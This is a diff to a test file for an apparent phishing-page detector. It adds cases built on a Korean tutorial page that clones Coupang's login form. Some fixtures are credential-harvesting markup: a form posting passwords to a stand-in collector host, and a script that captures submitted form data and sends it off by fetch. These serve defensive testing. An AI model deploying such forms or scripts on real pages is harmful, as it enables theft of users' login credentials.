@@ -1,6 +1,6 @@
 import { parseHTML } from 'linkedom';
 import { describe, expect, it } from 'vitest';
-import { scanPage } from '../../lib/page/index';
+import { scanPage, warnAtRisk } from '../../lib/page/index';
 import { parse } from './helpers';
 
 /**
@@ -96,5 +96,44 @@ describe("a voucher market quoting the brand's gift cards over its own seller lo
         '<label>휴대폰 번호</label><input type="tel"><label>비밀번호</label><input type="password"><button>로그인</button></div>',
     );
     expect(verdict(kit)).not.toBe('clean');
+  });
+});
+
+describe("a tutorial's demo form that sends nothing, at the second chance", () => {
+  const post = (form: string, extra = '') =>
+    page(
+      'Vue로 회원 로그인 화면 따라 만들기 (쿠팡 로그인 페이지 클론)',
+      '<header><b>코드노트</b></header><article><h1>쿠팡 로그인 화면을 Vue로 클론해 보자</h1>' +
+        '<p>쿠팡 로그인 페이지 구조를 참고해 입력 검증까지 구현합니다. 학습용 예제입니다.</p>' +
+        '<pre>&lt;input v-model="pw" type="password"&gt;</pre>' +
+        `<h3>직접 해보기 — 데모, 입력값은 전송되지 않습니다</h3>${form}</article>${extra}`,
+    );
+  const demo = (action = '') =>
+    `<form${action}><input type="email" placeholder="you@mail.test"><input type="password" placeholder="비밀번호"><button>로그인</button></form>`;
+  const atKey = (html: string) => warnAtRisk(scan(html, 'https://codenote.example/vue-login'), 'password');
+
+  it('keeps the password box quiet at its first key: the verdict says the page is an article', () => {
+    expect(atKey(post(demo()))).toBe(false);
+    expect(scan(post(demo()), 'https://codenote.example/vue-login').verdict).toBe('clean');
+  });
+
+  it('warns at the first key when the "demo" form sends what it takes to an address', () => {
+    expect(atKey(post(demo(' action="https://collect.example/l" method="post"')))).toBe(true);
+  });
+
+  it('warns at the first key when a script on the page can carry what is typed', () => {
+    const html = post(
+      demo(),
+      '<script>document.querySelector("form").onsubmit=function(e){e.preventDefault();fetch("/k",{method:"POST",body:new FormData(this)})}</script>',
+    );
+    expect(atKey(html)).toBe(true);
+  });
+
+  it('warns at the first key when nothing says the form is a demo that sends nothing', () => {
+    const html = post(demo()).replace(
+      '직접 해보기 — 데모, 입력값은 전송되지 않습니다',
+      '쿠팡 계정으로 로그인',
+    );
+    expect(atKey(html)).toBe(true);
   });
 });
